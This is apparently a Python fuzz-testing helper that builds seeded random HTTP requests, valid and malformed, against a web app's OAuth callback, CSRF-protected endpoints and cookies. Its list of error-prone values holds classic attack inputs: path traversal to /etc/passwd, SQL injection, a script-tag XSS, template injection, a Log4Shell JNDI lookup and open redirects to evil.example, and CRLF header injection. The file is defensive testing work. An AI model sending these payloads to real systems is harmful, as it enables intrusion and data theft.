"""Random requests to web, valid and invalid ones: the same for the same seed.

Not by Hypothesis, which takes twice as long to make a request as web to answer it: no failing request is shortened.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from random import Random

METHODS = (
    *("GET", "POST") * 9,
    *("HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "get", "X" * 40),
)
HEADERS = (
    "Accept",
    "Accept-Encoding",
    "Content-Type",
    "Cookie",
    "Expect",
    "Host",
    "If-Modified-Since",
    "If-None-Match",
    "If-Range",
    "Origin",
    "Range",
    "Referer",
    "Sec-Fetch-Site",
    "Upgrade",
    "X-Forwarded-For",
    "X-Forwarded-Host",
    "X-Forwarded-Prefix",
    "X-HTTP-Method-Override",
    "X-Original-URL",
)
#: Values that often cause errors in fields of requests.
FAMOUS = (
    "",
    "0",
    "-1",
    "62515",
    "9" * 19,
    "9" * 400,
    "1e9",
    "../../etc/passwd",
    "%00",
    "\x00",
    "%c0%ae",
    "\ud7ff\uffff",
    "' OR 1=1 --",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "\r\nSet-Cookie: a=b",
    "//evil.example",
    "https://evil.example",
    "evil.example",
    "same-origin",
    "null",
    "chunked",
    "bytes=0-0,-1,999999999999-",
    "Sun, 06 Nov 9999 99:99:99 GMT",
    "multipart/form-data; boundary=",
    "multipart/form-data; boundary=x",
    "application/x-www-form-urlencoded; charset=utf-7",
    "application/json",
    "access_denied",
    "active",
    "due",
    "q" * 5000,
)
PARAMETERS = (
    *(
        "state",
        "code",
        "error",
        "hub_id",
        "app",
        "moved",
        "status",
        "q",
        "sort",
        "after",
        "before",
        "notice",
        "csrf_token",
        "step",
        "returnUrl",
        "link",
        "signed_in",
        "grant",
    ),
    "x",
)
COOKIES = (
    "tk_browser",
    "tk_install_0123456789ab",
    "tk_grant_0123456789ab",
    "tk_used",
    "tk_restarts",
    "__Host-tk_browser",
    "session",
    "",
)


@dataclass(frozen=True, slots=True)
class Visit:
    method: str
    path: str
    query: str
    headers: list[tuple[str, str]]
    body: bytes
    signed_in: bool = field(default=False)


def latin(raw: bytes) -> str:
    """Bytes as WSGI passes them: decoded as Latin-1."""
    return raw.decode("latin-1")


#: The first code point that a text does not contain: ASCII, bytes, one and several units of UTF-16.
CODE_POINT_LIMITS = (0x80, 0x100, 0x1_0000, 0x11_0000)
FORM_TYPE = ("Content-Type", "application/x-www-form-urlencoded")


class RandomRequests:
    def __init__(self, random: Random, paths: Sequence[str], genuine: Mapping[str, str]) -> None:
        """`genuine`: valid parameters and cookies by name, sent unchanged, corrupted or under another name."""
        self.random = random
        self._paths = paths
        self._genuine = genuine
        self._values = sorted(genuine.values())
        self._well_made = well_made(genuine)

    def make(self) -> Visit:
        if self.random.randrange(10) == 0:
            return self.random.choice(self._well_made)
        return Visit(
            self.random.choice(METHODS),
            self._make_path(),
            self._make_text() if self.random.randrange(6) == 0 else self._make_form(),
            [self._make_header() for _ in range(self.random.randint(0, 5))],
            self._make_body(),
            signed_in=self.random.random() < 0.5,
        )

    def make_bytes(self, most: int) -> bytes:
        return self.random.randbytes(self.random.randint(0, most))

    def _make_path(self) -> str:
        path = self.random.choice(self._paths)
        match self.random.randrange(12):
            case 0:
                return f"{path}/{self._make_text()}"
            case 1:
                return path.replace("62515", self._make_text())
            case 2:
                return f"/{self._make_text()}"
            case _:
                return path

    def _make_text(self) -> str:
        match self.random.randrange(5):
            case 0:
                text = self.random.choice(FAMOUS)
            case 1:
                text = self.random.choice(self._values)
            case 2:
                text = self._spoil(self.random.choice(self._values))
            case 3:
                limit = self.random.choice(CODE_POINT_LIMITS)
                text = "".join(chr(self.random.randrange(limit)) for _ in range(self.random.randint(0, 40)))
            case _:
                text = latin(self.make_bytes(40))
        return _as_bytes(text)

    def _spoil(self, genuine: str) -> str:
        """With another character in one place, or one more at the end."""
        place = self.random.randint(0, len(genuine))
        return genuine[:place] + chr(self.random.randrange(256)) + genuine[place + 1 :]

    def _make_form(self) -> str:
        genuine = self._genuine
        match self.random.randrange(5):
            case 0:
                names = [self.random.choice(PARAMETERS) for _ in range(self.random.randint(0, 5))]
                return _form((name, self._make_text()) for name in names)
            case 1:
                return _form((name, genuine[name]) for name in ("state", "code"))
            case 2:
                return _form([("csrf_token", genuine["csrf_token"])])
            case step:
                return _form(
                    [
                        ("step", "authorize" if step == 3 else "finalize"),
                        ("link", genuine["link"]),
                        ("code", genuine["code"]),
                        ("state", genuine["marketplace_state"]),
                        ("returnUrl", self.random.choice(("https://app.hubspot.com/x", "https://evil.example/"))),
                    ]
                )

    def _make_header(self) -> tuple[str, str]:
        match self.random.randrange(4):
            case 0:
                return self.random.choice(HEADERS), self._make_text()
            case 1:
                names = [self.random.choice(COOKIES) for _ in range(self.random.randint(0, 4))]
                return _cookie_header((name, self._make_text()) for name in names)
            case 2:
                return _cookie_header(_list_cookies(self._genuine))
            case _:
                return FORM_TYPE

    def _make_body(self) -> bytes:
        match self.random.randrange(3):
            case 0:
                return b""
            case 1:
                return self._make_form().encode("latin-1")
            case _:
                return self.make_bytes(200)


def well_made(genuine: Mapping[str, str]) -> list[Visit]:
    """Valid requests, so that the code behind the checks runs in every order."""
    headers = [_cookie_header(_list_cookies(genuine)), FORM_TYPE]
    form = f"csrf_token={genuine['csrf_token']}".encode()
    back = f"state={genuine['state']}&code={genuine['code']}"
    orders = ("/connections/62515/refresh", "/connections/62515/disconnect", "/operator/revocations/confirm")
    return [
        Visit("GET", "/oauth/callback", back, headers, b""),
        *(Visit("POST", order, "", headers, form, signed_in=True) for order in orders),
    ]


def _list_cookies(genuine: Mapping[str, str]) -> list[tuple[str, str]]:
    return [(name, value) for name, value in genuine.items() if name.startswith("tk_")]


def _cookie_header(pairs: Iterable[tuple[str, str]]) -> tuple[str, str]:
    return "Cookie", "; ".join(f"{name}={value}" for name, value in pairs)


def _form(pairs: Iterable[tuple[str, str]]) -> str:
    return "&".join(f"{name}={value}" for name, value in pairs)


def _as_bytes(text: str) -> str:
    return text.encode("utf-8", "surrogatepass").decode("latin-1")
